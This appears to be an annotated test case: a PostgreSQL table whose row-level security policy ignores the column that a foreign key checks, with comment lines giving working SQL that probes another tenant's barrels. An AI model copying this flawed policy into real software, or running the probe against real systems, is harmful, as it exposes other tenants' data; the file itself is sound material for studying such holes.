-- The foreign key takes the lender from a column the policy does not check, so barrels of any winery
-- can be named.
-- about: BarrelLoan, Barrel, BarrelLoan_barrel_fkey
-- as: hf_winery_app
-- exploit: SET app.winery_id = 'w_hill';
-- exploit: INSERT INTO "BarrelLoan" ("wineryId", "lenderId", "barrelNr") VALUES ('w_hill', 'w_road', 76);
-- exploit: INSERT INTO "BarrelLoan" ("wineryId", "lenderId", "barrelNr") VALUES ('w_hill', 'w_road', 77);
-- exploit: SELECT 'barrel is there: ' || "barrelNr" FROM "BarrelLoan";
-- shows: barrel is there: 77
CREATE TABLE "BarrelLoan" (
  "wineryId" text NOT NULL REFERENCES "Winery" ("id"),
  "id" text NOT NULL DEFAULT gen_random_uuid()::text,
  "lenderId" text,
  "barrelNr" integer NOT NULL,
  CONSTRAINT "BarrelLoan_pkey" PRIMARY KEY ("wineryId", "id"),
  CONSTRAINT "BarrelLoan_barrel_fkey" FOREIGN KEY ("lenderId", "barrelNr")
    REFERENCES "Barrel" ("wineryId", "nr")
);
ALTER TABLE "BarrelLoan" ENABLE ROW LEVEL SECURITY;
ALTER TABLE "BarrelLoan" FORCE ROW LEVEL SECURITY;
CREATE POLICY tenant_isolation ON "BarrelLoan"
  USING ("wineryId" = NULLIF(current_setting('app.winery_id', TRUE), ''));
GRANT SELECT, INSERT, DELETE ON "BarrelLoan" TO hf_winery_app;
